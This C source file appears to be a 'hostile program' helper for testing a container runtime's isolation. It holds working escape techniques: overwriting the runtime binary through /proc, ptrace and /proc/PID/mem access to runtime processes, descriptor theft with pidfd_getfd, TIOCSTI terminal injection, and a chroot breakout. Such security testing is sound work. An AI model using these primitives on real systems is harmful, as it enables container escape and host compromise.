/* What a hostile program does in its container, or beside one. Static, so that it needs no library there.
   The first word says what; each prints what it reached, and nothing where it was held. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* overwrite FILE: opens a link of /proc (an exe, a held file) for writing and writes a byte. */
static int overwrite(const char *path) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) return printf("open: %s\n", strerror(errno)), 0;
    if (pwrite(fd, "X", 1, 0) == 1) return puts("written"), 0;
    return printf("write: %s\n", strerror(errno)), 0;
}

/* hold FILE SECONDS: holds an O_PATH descriptor of FILE until a line comes on stdin, then writes through it. */
static int hold(const char *path) {
    char name[64], line[8];
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) return printf("hold: %s\n", strerror(errno)), 1;
    puts("held");
    fflush(stdout);
    if (!fgets(line, sizeof line, stdin)) return 1;
    snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
    return overwrite(name);
}

/* exchange A B [SECONDS]: swaps the two names again and again. */
static int exchange(const char *a, const char *b, double seconds) {
    double end = now() + seconds;
    while (now() < end)
        for (int i = 0; i < 100; i++) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2);
    return 0;
}

/* Does `try` with every process that it sees but itself and its own children's program. */
static int prey(int (*attempt)(int pid), double seconds) {
    double end = now() + seconds;
    long tries = 0, caught = 0;
    while (now() < end) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            int pid = atoi(entry->d_name);
            if (pid <= 1 || pid == getpid()) continue;
            tries++;
            caught += attempt(pid);
        }
        if (proc) closedir(proc);
    }
    printf("tries %ld caught %ld\n", tries, caught);
    return 0;
}

/* Whether the process still runs dhow: its own program it may trace. */
static int is_runtime(int pid) {
    char name[64], word[64] = "";
    snprintf(name, sizeof name, "/proc/%d/comm", pid);
    int fd = open(name, O_RDONLY | O_CLOEXEC);
    if (fd >= 0 && read(fd, word, sizeof word - 1) < 0) word[0] = 0;
    if (fd >= 0) close(fd);
    return !strncmp(word, "dhow", 4) || !strncmp(word, "runc", 4) || !strncmp(word, "crun", 4);
}

/* Attaches, reads memory, takes a descriptor: whatever succeeds while it is the runtime's process. */
static int trace(int pid) {
    char byte, name[64];
    int caught = 0;
    if (!is_runtime(pid)) return 0;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        caught = is_runtime(pid);
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    snprintf(name, sizeof name, "/proc/%d/mem", pid);
    int mem = open(name, O_RDWR | O_CLOEXEC);
    if (mem >= 0) caught |= is_runtime(pid), close(mem);
    snprintf(name, sizeof name, "/proc/%d/root", pid);
    int root = open(name, O_PATH | O_CLOEXEC);
    if (root >= 0) caught |= is_runtime(pid), close(root);
    int pidfd = syscall(SYS_pidfd_open, pid, 0);
    if (pidfd >= 0) {
        int fd = syscall(SYS_pidfd_getfd, pidfd, 0, 0);
        if (fd >= 0) caught |= is_runtime(pid), close(fd);
        close(pidfd);
    }
    struct iovec to = {&byte, 1}, from = {(void *)0x400000, 1};
    if (process_vm_readv(pid, &to, 1, &from, 1, 0) == 1) caught |= is_runtime(pid);
    return caught;
}

/* The permitted capabilities of a process. */
static unsigned long long rights(int pid) {
    char name[64], line[256];
    unsigned long long found = 0;
    snprintf(name, sizeof name, "/proc/%d/status", pid);
    FILE *file = fopen(name, "r");
    while (file && fgets(line, sizeof line, file))
        if (sscanf(line, "CapPrm: %llx", &found) == 1) break;
    if (file) fclose(file);
    return found;
}

/* With CAP_SYS_PTRACE: stops a process of the runtime's where it is, and looks what there is to be won of it: rights
   beyond our own, files that are no stdio and no channel. */
static int plunder(int pid) {
    char name[64], target[256];
    int won = 0;
    if (!is_runtime(pid) || ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return 0;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, NULL, __WALL);
    if (is_runtime(pid)) {
        won = (rights(pid) & ~rights(getpid())) != 0;
        if (won) printf("rights %llx\n", rights(pid));
        for (int fd = 3; fd < 64; fd++) {
            snprintf(name, sizeof name, "/proc/%d/fd/%d", pid, fd);
            ssize_t n = readlink(name, target, sizeof target - 1);
            if (n < 0 || !strncmp(target, "socket:", 7)) continue;
            target[n] = 0;
            printf("file %s\n", target);
            won = 1;
        }
    }
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return won;
}

/* Opens the program of a process that is not our own for writing. */
static int program_of(int pid) {
    char name[64];
    struct stat ours, theirs;
    snprintf(name, sizeof name, "/proc/%d/exe", pid);
    int held = open(name, O_PATH | O_CLOEXEC);
    if (held < 0) return 0;
    int foreign = !fstat(held, &theirs) && !stat("/proc/self/exe", &ours) &&
                  (ours.st_ino != theirs.st_ino || ours.st_dev != theirs.st_dev) && is_runtime(pid);
    int caught = 0;
    if (foreign) {
        snprintf(name, sizeof name, "/proc/self/fd/%d", held);
        for (int i = 0; i < 2000 && !caught; i++) {
            int fd = open(name, O_WRONLY | O_CLOEXEC);
            if (fd < 0 && errno != ETXTBSY) break;
            if (fd >= 0) caught = pwrite(fd, "X", 1, 0) == 1, close(fd);
        }
    }
    close(held);
    return caught;
}

/* terminal: what a program without a terminal of its own reaches of its caller's. */
static int terminal(void) {
    char byte = 'x';
    int tty = open("/dev/tty", O_RDWR | O_CLOEXEC | O_NOCTTY);
    if (tty >= 0) puts("it has a controlling terminal");
    if (ioctl(0, TIOCSTI, &byte) == 0) puts("TIOCSTI");
    byte = 2;
    if (ioctl(0, TIOCLINUX, &byte) == 0) puts("TIOCLINUX");
    if (tcgetsid(0) == getsid(0)) puts("it leads the terminal's session");
    return 0;
}

/* keyring NAME: whether a key of this name is found from the session keyring. */
static int keyring(const char *name) {
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", name, 0);
    puts(key >= 0 ? "found" : "not found");
    return 0;
}

/* with-key NAME PROGRAM...: a session keyring with a key, as a login gives one; then PROGRAM. */
static int with_key(char **words) {
    if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0) return perror("keyctl"), 1;
    if (syscall(SYS_add_key, "user", words[0], "x", 1, KEY_SPEC_SESSION_KEYRING) < 0) return perror("add_key"), 1;
    execvp(words[1], words + 1);
    return perror("exec"), 1;
}

/* climb FILE: a root below the working directory, then up and up: the old way out of a chroot. Then reads FILE. */
static int climb(const char *path) {
    char text[256];
    int here = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
    mkdir("/tmp/below", 0700);
    if (here < 0 || chroot("/tmp/below") != 0) return printf("chroot: %s\n", strerror(errno)), 1;
    if (fchdir(here) != 0) return 1;
    for (int i = 0; i < 64; i++)
        if (chdir("..") != 0) break;
    if (chroot(".") != 0) return 1;
    puts("climbed");
    FILE *file = fopen(path, "r");
    while (file && fgets(text, sizeof text, file)) fputs(text, stdout);
    return 0;
}

int main(int count, char **words) {
    const char *what = count > 1 ? words[1] : "";
    double seconds = count > 2 ? atof(words[2]) : 1;
    if (!strcmp(what, "overwrite")) return overwrite(words[2]);
    if (!strcmp(what, "hold")) return hold(words[2]);
    if (!strcmp(what, "exchange")) return exchange(words[2], words[3], count > 4 ? atof(words[4]) : 1e9);
    if (!strcmp(what, "trace")) return prey(trace, seconds);
    if (!strcmp(what, "plunder")) return prey(plunder, seconds);
    if (!strcmp(what, "programs")) return prey(program_of, seconds);
    if (!strcmp(what, "terminal")) return terminal();
    if (!strcmp(what, "climb")) return climb(words[2]);
    if (!strcmp(what, "keyring")) return keyring(words[2]);
    if (!strcmp(what, "with-key")) return with_key(words + 2);
    return fprintf(stderr, "hostile: what is %s?\n", what), 64;
}
